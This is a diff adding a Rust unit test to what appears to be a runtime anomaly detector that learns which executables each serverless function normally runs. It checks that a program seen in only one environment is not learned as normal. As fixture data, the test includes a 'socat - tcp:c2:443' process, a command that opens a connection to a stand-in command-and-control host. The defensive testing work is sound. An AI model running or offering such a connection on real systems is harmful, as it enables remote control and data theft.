@@ -433,6 +433,37 @@ fn profiles_learn_each_function_from_benign_rows() {
     assert!(api.median[idx::NET_TX] < 8.0, "{}", api.median[idx::NET_TX]);
 }
 
+#[test]
+fn a_habit_reaches_the_profile_only_from_two_environments() {
+    use warden_core::testing::{process, with};
+    // Function "api" in two environments: both run the converter; only the first runs a
+    // program its code planted there, in every invocation.
+    let mut rows = Vec::new();
+    for env in ["api-env-1", "api-env-2"] {
+        for seq in 1..=10u64 {
+            let mut r = row(BENIGN, env, seq, [0f32; N]);
+            r.function = "api".into();
+            let mut record = with(
+                warden_core::testing::record(seq),
+                process(100, "/var/task/bin/convert", "convert in.pdf"),
+            );
+            if env == "api-env-1" {
+                record = with(record, process(101, "/usr/bin/socat", "socat - tcp:c2:443"));
+            }
+            r.record = Box::new(record);
+            rows.push(r);
+        }
+    }
+    let profiles = dataset::profiles(&rows);
+    assert_eq!(profiles["api"].known_exes, ["/var/task/bin/convert"]);
+    // From one environment alone, nothing is a habit.
+    let one: Vec<Row> = rows
+        .into_iter()
+        .filter(|r| r.scope == "api-env-1")
+        .collect();
+    assert!(dataset::profiles(&one)["api"].known_exes.is_empty());
+}
+
 /// A third function whose attack class (exfiltration in the response) exists only in its own
 /// rows: only a model trained on them can name it.
 fn odd(seed: u64, split: &str) -> Vec<Row> {
